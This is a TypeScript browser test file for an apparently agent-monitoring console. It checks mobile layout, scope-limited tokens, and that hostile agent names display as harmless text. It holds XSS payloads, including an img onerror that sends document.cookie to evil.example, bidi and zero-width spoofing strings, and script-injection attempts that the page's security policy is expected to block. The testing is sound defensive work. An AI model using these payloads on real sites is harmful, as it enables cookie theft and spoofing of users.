import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { exportJWK, generateKeyPair, SignJWT } from 'jose'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openApi } from '../support/api.ts'
import { temporaryDirectory } from '../support/temporary.ts'
import { until } from '../support/until.ts'
import { go, launch, openPage, words } from './browser.ts'
import { takePictures } from './pictures.ts'
import { type Api, act, command, office, places, send, sendBroken } from './scene.ts'

let api: Api
let issuer: Server
let url = ''
let browser: Browser
let token: (claims: Record<string, string>) => Promise<string>

/** What an agent may call itself, and what it may say. */
const evil = {
  agent: `<img src=x onerror="fetch('https://evil.example/?'+document.cookie)">`,
  tool: '<script>alert(1)</script>',
  cohort: 'invoice\u202Efdp.exe\u2066',
  principal: `"'><svg onload=alert(2)> ${'A'.repeat(480)}`,
  dataset: 'javascript:alert(3)',
  task: '</td></table><h1>Everything is fine</h1>',
  // Names hold no control characters; what is told of a destination may.
  destination:
    '\u0000\u0007\u001b[31mpay\u200Bpal.example/%0a\u{E0041}z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307',
}

beforeAll(async () => {
  const { publicKey, privateKey } = await generateKeyPair('ES256')
  const jwk = { ...(await exportJWK(publicKey)), kid: 'k1', alg: 'ES256' }
  issuer = createServer((_request, response) => {
    response.setHeader('content-type', 'application/json').end(JSON.stringify({ keys: [jwk] }))
  })
  await new Promise<void>((resolve) => issuer.listen(0, '127.0.0.1', resolve))
  const name = `http://127.0.0.1:${(issuer.address() as AddressInfo).port}`
  token = (claims) =>
    new SignJWT(claims)
      .setProtectedHeader({ alg: 'ES256', kid: 'k1' })
      .setIssuer(name)
      .setAudience('rescind')
      .setSubject('viewer@corp.example')
      .setExpirationTime('10 min')
      .sign(privateKey)
  const auth = { issuer: name, audience: 'rescind', jwksUri: `${name}/jwks` }
  ;[api, browser] = await Promise.all([
    openApi(temporaryDirectory(), { settings: { history: { enabled: false }, auth } }),
    launch(),
  ])
  await office(api)
  url = await api.listen()
})
afterAll(async () => {
  await browser?.close()
  await api?.close()
  issuer?.close()
})

/** Nothing may stick out of a narrow page. */
const overflow = (page: Page) =>
  page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth')

test('at 320 pixels every page can be read without going sideways, and used', async () => {
  const { page, faults, close } = await openPage(browser, url, { width: 320, height: 640, key: api.key })
  const wide: Record<string, number> = {}
  for (const place of await places(api)) {
    await go(page, place)
    wide[place] = await overflow(page)
  }
  expect(Object.entries(wide).filter(([, more]) => more > 0)).toEqual([])
  await go(page, '#/agents')
  // A row is a card then, and still a row of a table for screen readers.
  const row = page.getByRole('row').filter({ has: page.getByRole('rowheader', { name: /billing-assistant/ }) })
  await row.getByRole('link', { name: 'billing-assistant' }).click()
  await page.getByRole('button', { name: 'Release revoke for billing-assistant' }).first().click()
  await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click()
  expect(await page.getByRole('dialog').count()).toBe(0)
  expect(faults.filter((fault) => !fault.includes('404'))).toEqual([])
  await close()
})

test('a token that may only look: what it may not do stays to be seen, with the reason', async () => {
  const { page, faults, close } = await openPage(browser, url, {
    key: await token({ scope: 'rescind.read', rescind_tenant: 'default' }),
  })
  await go(page, '#/approvals')
  const button = page.getByRole('button', { name: /^Approve/ }).first()
  expect(await button.getAttribute('aria-disabled')).toBe('true')
  const why = await button.getAttribute('aria-describedby')
  expect(await words(page.locator(`[id="${why}"]`))).toContain('lacks the scope rescind.respond')
  await button.focus()
  await page.keyboard.press('Enter')
  expect(await page.getByRole('dialog').count()).toBe(0)
  expect(await page.getByLabel('Tenant').count()).toBe(0)
  await go(page, '#/dead-letters')
  await page.getByText('Your token is bound to one').waitFor()
  expect(faults).toEqual([])
  await close()
})

test('a token that may not even look says which scope it lacks', async () => {
  const { page, close } = await openPage(browser, url, {
    key: await token({ scope: 'rescind.ingest', rescind_tenant: 'default' }),
  })
  const alert = page.getByRole('alert')
  await alert.getByText('lacks the scope rescind.read').waitFor()
  expect(await alert.count()).toBe(1)
  await close()
})

test('whatever agents call themselves is text: it neither runs, nor hides, nor reaches out', async () => {
  const events = ['read', 'export'].map((action, i) =>
    act(50_000 - i, evil.agent, {
      agent: { id: evil.agent, cohort: evil.cohort, workload: evil.tool },
      principal: evil.principal,
      task: { id: evil.task, intent: evil.tool },
      tool: { name: evil.tool },
      action: action as 'read',
      credential: { id: 'cred-kb-writer' },
      resource: { dataset: evil.dataset, sensitivity: 'restricted' },
      destinations: [{ hash: 'h', display: evil.destination, boundary: 'external' }],
      trace: { id: evil.cohort, span: `${i}` },
      chain: [{ id: evil.principal }, { id: evil.agent }],
      source: { network: evil.tool },
    }),
  )
  await send(api, events)
  await sendBroken(api, [`{"${evil.tool}": "${evil.cohort}`])
  await command(api, evil.agent)
  await until('its finding', async () => {
    const { findings } = (await api.call({ method: 'GET', url: '/v1/findings' })).json()
    return findings.find(({ agent }: { agent: string }) => agent === evil.agent)
  })
  for (const width of [1280, 320]) {
    const { page, faults, close } = await openPage(browser, url, { width, key: api.key })
    const id = encodeURIComponent(evil.agent)
    const at = [
      'agents',
      `agents/${id}`,
      'findings',
      'commands',
      'approvals',
      'dead-letters',
      `traces/${encodeURIComponent(evil.cohort)}`,
    ]
    for (const place of [...at, `commands/${await command(api, evil.agent)}`, `events/${events[1]?.id}`]) {
      await go(page, `#/${place}`)
      const text = (await page.locator('body').textContent()) ?? ''
      // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left
      expect(text.match(/[\u202a-\u202e\u2066-\u2069\u200b\u{e0041}\u0000-\u0008\u001b]/u), place).toBeNull()
      expect(
        await page.locator('main img, main script, iframe, [onerror], [onload], main h1:has-text("fine")').count(),
      ).toBe(0)
      expect(
        await page.evaluate<string[]>(
          "[...document.links].map((a) => a.getAttribute('href')).filter((h) => !h.startsWith('#'))",
        ),
      ).toEqual([])
      expect(await overflow(page), place).toBeLessThanOrEqual(0)
    }
    await go(page, `#/agents/${id}`)
    const shown = await words(page.locator('main'))
    expect(shown).toContain('<script>alert(1)</script>')
    expect(shown).toContain('invoice⟨U+202E⟩fdp.exe⟨U+2066⟩')
    expect(shown).toContain('pay⟨U+200B⟩pal.example')
    await go(page, '#/agents')
    await page.getByRole('link', { name: evil.agent }).click()
    await page.getByRole('region', { name: 'Why' }).waitFor()
    expect(faults).toEqual([])
    await close()
  }
})

test('a script that got in all the same would find nothing open: the policy stops it', async () => {
  const { page, faults, close } = await openPage(browser, url)
  const attempts = [
    "document.body.setAttribute('onclick', 'window.ran = true')",
    "document.body.innerHTML = '<img src=x>'",
    "setTimeout('window.ran = true', 0)",
    "Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })",
    "await fetch('https://evil.example/')",
  ]
  for (const attempt of attempts) {
    const done = page.evaluate(`(async () => { ${attempt} })()`)
    await expect(done, attempt).rejects.toThrow(/TrustedScript|TrustedHTML|Trusted Type|unsafe-eval|Failed to fetch/)
  }
  expect(await page.evaluate('window.ran')).toBeUndefined()
  expect(faults.join('\n')).toContain('connect-src')
  await close()
})

// `RESCIND_PICTURES=1 npx vitest run test/console/looks.test.ts -t pictures` takes those of docs/images anew.
if (process.env.RESCIND_PICTURES !== undefined) test('pictures', () => takePictures(browser, url, api.key))
